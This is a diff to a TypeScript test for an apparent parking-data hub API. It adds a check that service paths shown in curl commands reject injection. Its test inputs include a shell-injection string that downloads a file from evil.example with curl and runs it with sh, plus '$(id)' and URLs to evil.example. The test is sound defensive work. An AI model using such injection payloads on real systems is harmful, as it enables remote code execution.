@@ -82,6 +82,13 @@ describe.each(STORE_BACKENDS)('parking on the hub on $name', ({ databaseUrl }) =
     expect(ttl).toContain('application/geo+json');
     const found = (await base.inject({ url: '/api/3/action/package_search?fq=res_format:GeoJSON' })).json().result as { results: { name: string }[] };
     expect(found.results.length).toBe(1);
+    // A live API's path is shown in curl commands people paste into a shell: nothing but a plain path is accepted.
+    const svc = (path: string) => ({ services: [{ id: 'x', name: 'x', nameEn: '', path, format: 'JSON', mediaType: 'application/json' }] });
+    for (const path of ["/api/v1/x';curl$IFS-so$IFS/tmp/a$IFS'http://evil.example/p';sh$IFS/tmp/a;'", '/api//evil.example/x', 'https://evil.example/api/x', '/api/v1/x y', '/api/v1/$(id)']) {
+      const r = await steward.inject({ method: 'PUT', url: `/api/v1/datasets/${ds.lots}/services`, payload: svc(path) });
+      expect([r.statusCode, r.json().error.code], path).toEqual([400, 'VALIDATION_FAILED']);
+    }
+    expect((await steward.inject({ method: 'PUT', url: `/api/v1/datasets/${ds.lots}/services`, payload: svc('/api/v1/parking/lots.geojson?district=350203') })).statusCode).toBe(200);
     // A reservation becomes a session record; sessions carry plates and are not open.
     const held = await driver.inject({ method: 'POST', url: '/api/v1/parking/reservations', payload: { lotId: 'hub-a', spaceType: 'standard', start: bj(1, '10:00'), end: bj(1, '11:00'), plate: '闽D88888' } });
     expect(held.statusCode, held.body).toBe(201);
